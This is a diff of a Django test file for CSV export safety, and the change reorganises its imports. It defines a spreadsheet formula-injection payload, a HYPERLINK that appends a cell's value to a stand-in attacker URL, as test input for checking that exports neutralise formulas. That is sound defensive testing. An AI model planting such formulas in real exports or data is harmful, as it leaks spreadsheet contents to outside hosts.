@@ -1,11 +1,9 @@
 """No export opens as a formula in somebody's spreadsheet, whatever was typed at the desk and whoever exports it."""
 
-from __future__ import annotations
-
 import csv
 import io
 import re
-from typing import TYPE_CHECKING
+from collections.abc import Iterator
 
 import pytest
 from django.conf import settings
@@ -18,9 +16,6 @@ from tests.factories.core import StandardPageFactory
 from tests.factories.helpline import ProgrammeFactory
 from tests.factories.network import MemberFactory
 from users.models import User
-
-if TYPE_CHECKING:
-    from collections.abc import Iterator
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/"&A1,"Open, please")'
